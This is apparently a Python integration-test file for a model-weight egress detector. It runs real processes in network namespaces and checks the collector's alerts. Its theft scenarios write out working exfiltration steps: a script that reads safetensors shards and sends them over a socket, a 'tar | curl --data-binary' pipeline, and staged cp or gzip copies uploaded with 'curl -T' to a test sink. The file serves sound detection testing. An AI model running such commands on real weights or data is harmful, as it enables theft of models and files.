"""Real scenarios: the real agent in a network namespace, real processes reading real weight
files and sending real bytes to a server in the other namespace, the collector judging the
agent's own events as they arrive.

Each scenario's processes start with nothing in common beyond descriptors 0-2 (all
/dev/null), in the agent's mount and network namespaces (as on a host where the agent runs in
the host's mount namespace): what links them is the real flow, a pipe or a file. The agent
runs once for all scenarios; each scenario is judged by a fresh collector on its own slice of
the agent's events.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests.corpus.model import Expect, Scenario, Verdict, first_match, judge
from tests.corpus.replay import message
from tests.helpers.agent_run import DaemonRun
from tests.helpers.netns import NetnsPair, wait_for
from weightwarden.collector.ingest.pipeline import Pipeline
from weightwarden.collector.store.database import Store

REPO = Path(__file__).resolve().parents[2]
SHARD = 4 * 2**20  # two shards: 8 MiB of "weights"
UPLOAD_PORT, ALLOWED_PORT = 8080, 9443
PYTHON = "/usr/bin/python3"  # the system interpreter: its processes are named python3

READ_AND_UPLOAD = """
import socket, sys
data = b"".join(open(p, 'rb').read() for p in sys.argv[3:])
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
s.sendall(data)
s.close()
"""
SERVE = """
import http.server, mmap, sys
files = [open(p, 'rb') for p in sys.argv[2:]]
maps = [mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) for f in files]
total = sum(sum(m[i] for i in range(0, len(m), 4096)) for m in maps)  # touch every page: loaded
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = (b"token " * 400)[:2000]
        self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
"""


class Lab:
    """One agent, one pair of namespaces, two sinks (one allowlisted) for every scenario."""

    def __init__(self, pair: NetnsPair, workdir: Path) -> None:
        self.pair, self.workdir = pair, workdir
        self.models = workdir / "models"
        self.models.mkdir()
        self.shards = [self.models / f"model-0000{i}-of-00002.safetensors" for i in (1, 2)]
        for shard in self.shards:
            shard.write_bytes(os.urandom(SHARD))
        policy = workdir / "policy.yaml"
        policy.write_text(f"""apiVersion: weightwarden/v1
kind: EgressPolicy
metadata: {{name: corpus}}
spec:
  allow:
    - cidr: {pair.addr_b}/32
      ports: [{ALLOWED_PORT}]
  weights:
    paths: ["{self.models}/*.safetensors"]
""")
        for port in (UPLOAD_PORT, ALLOWED_PORT):
            sink = pair.popen(pair.b, sys.executable, "-m", "tests.helpers.sink", pair.addr_b, str(port), str(port + 1),
                              cwd=str(REPO), stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            assert sink.stdout is not None and sink.stdout.readline().strip() == b"ready"
        self.agent = DaemonRun(pair, policy, workdir / "state", "--heartbeat-interval", "2")
        self.agent.wait_event("agent_started", timeout=30)
        self.agent.wait_event("egress_sample", timeout=30)
        self.base = [e for e in self.agent.events if e["type"] != "egress_sample"]

    def run(self, *argv: str, cwd: Path | None = None) -> subprocess.Popen[bytes]:
        """A process on the GPU host, sharing nothing with the others beyond /dev/null."""
        proc: subprocess.Popen[bytes] = subprocess.Popen(
            ["nsenter", "-t", str(self.agent.proc.pid), "-m", "-n", "--", *argv], stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True, cwd=str(cwd or self.workdir),
            env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LANG": "C"})
        self.pair.procs.append(proc)
        return proc

    def url(self, port: int) -> str:
        return f"http://{self.pair.addr_b}:{port}/upload"

    def judge(self, sc: RealScenario, db: Path) -> Verdict:
        time.sleep(1.0)  # the previous scenario's last samples and reads are in the past
        start_index, started = len(self.agent.events), time.time()
        pipe = Pipeline(Store(f"sqlite:///{db}"))
        pipe.ingest([message(e) for e in self.base])
        fed = start_index
        t0 = time.monotonic()
        sc.act(self)
        took: float | None = None

        def feed() -> bool:
            nonlocal fed, took
            new = self.agent.events[fed:]
            fed += len(new)
            fresh = [e for e in new if e["ts"] >= started - 1 and e["type"] != "agent_lost"]
            if fresh:
                pipe.ingest([message(e) for e in fresh])
            if took is None and sc.label == "theft" and first_match(sc, pipe.store.alerts()):
                took = time.monotonic() - t0
            return took is not None

        wait_for(feed, 15 if sc.label == "theft" else 2, 0.1)
        time.sleep(1.5)  # reads reported at close and the last samples still count for the final verdict
        feed()
        pipe.sweep()
        alerts = pipe.store.alerts()
        problems = judge(sc, alerts) + [f"collector error: {e}" for e in pipe.errors]
        pipe.store.engine.dispose()
        return Verdict(sc, alerts, problems, took)


@dataclass
class RealScenario(Scenario):
    act: Callable[[Lab], Any] = lambda lab: None


def _wait(*procs: subprocess.Popen[bytes]) -> None:
    for p in procs:
        assert p.wait(timeout=60) == 0, f"scenario process {p.args!r} failed"


def direct(lab: Lab) -> None:
    _wait(lab.run(PYTHON, "-c", READ_AND_UPLOAD, lab.pair.addr_b, str(UPLOAD_PORT), *map(str, lab.shards)))


def tar_curl(lab: Lab) -> None:
    # curl reads the whole pipe, then sends it with its length (the sink answers a chunked PUT at once).
    _wait(lab.run("sh", "-c", f"tar cf - -C {lab.models} . | curl -sS --data-binary @- {lab.url(UPLOAD_PORT)}"))


def cp_then_curl(lab: Lab) -> None:
    stage = lab.workdir / "stage"
    stage.mkdir(exist_ok=True)
    _wait(lab.run("cp", str(lab.shards[0]), str(stage / "blob")))
    time.sleep(1.5)  # later, another process
    _wait(lab.run("curl", "-sS", "-T", str(stage / "blob"), lab.url(UPLOAD_PORT)))


def gzip_then_curl(lab: Lab) -> None:
    stage = lab.workdir / "stage2"
    stage.mkdir(exist_ok=True)
    _wait(lab.run("sh", "-c", f"gzip -1 -c {lab.shards[1]} > {stage}/w.gz"))
    time.sleep(1.5)
    _wait(lab.run("curl", "-sS", "-T", str(stage / "w.gz"), lab.url(UPLOAD_PORT)))


def inference(lab: Lab) -> None:
    server = lab.run(PYTHON, "-c", SERVE, "8000", *map(str, lab.shards))
    assert wait_for(lambda: lab.pair.run(lab.pair.b, "curl", "-s", "-o", "/dev/null", f"http://{lab.pair.addr_a}:8000/",
                                         check=False).returncode == 0, 15, 0.2), "the server did not come up"
    for _ in range(20):  # clients on connections they open: 2 KB answers
        lab.pair.run(lab.pair.b, "curl", "-s", "-o", "/dev/null", f"http://{lab.pair.addr_a}:8000/")
    time.sleep(1.5)  # the agent's mapping scan and samples
    server.kill()
    server.wait(timeout=10)


def checkpoint_and_report(lab: Lab) -> None:
    report = lab.workdir / "report.txt"
    report.write_bytes(b"loss 0.1\n" * 20000)  # 180 KB: unrelated to the weights
    _wait(lab.run(PYTHON, "-c", READ_AND_UPLOAD, lab.pair.addr_b, str(ALLOWED_PORT), *map(str, lab.shards)))
    _wait(lab.run("sha256sum", *map(str, lab.shards)))
    _wait(lab.run("curl", "-sS", "-T", str(report), lab.url(UPLOAD_PORT)))


REAL_SCENARIOS: list[RealScenario] = [
    RealScenario("real: python reads and uploads", "theft", "direct read then upload, real agent",
                 must=[Expect(("exfiltration",), "critical", "python3", "model-0000", "198.18.")], kind="real",
                 act=direct),
    RealScenario("real: tar | curl", "theft", "shell pipeline, real agent", kind="real", act=tar_curl,
                 must=[Expect(("exfiltration",), "high", "curl", "model-0000", "198.18.")]),
    RealScenario("real: cp then curl", "theft", "staged copy, real agent", kind="real", act=cp_then_curl,
                 must=[Expect(("staged_exfiltration",), "high", "curl", "model-00001", "198.18.")]),
    RealScenario("real: gzip then curl", "theft", "compressed derivative, real agent", kind="real", act=gzip_then_curl,
                 must=[Expect(("staged_exfiltration",), "high", "curl", "model-00002", "198.18.")]),
    RealScenario("real: inference-like server", "benign", "mmap + HTTP answers to 20 clients, real agent",
                 kind="real", act=inference),
    RealScenario("real: allowlisted checkpoint, unrelated report", "benign",
                 "upload to the allowlisted sink, sha256sum, 180 KB report", kind="real", act=checkpoint_and_report),
]
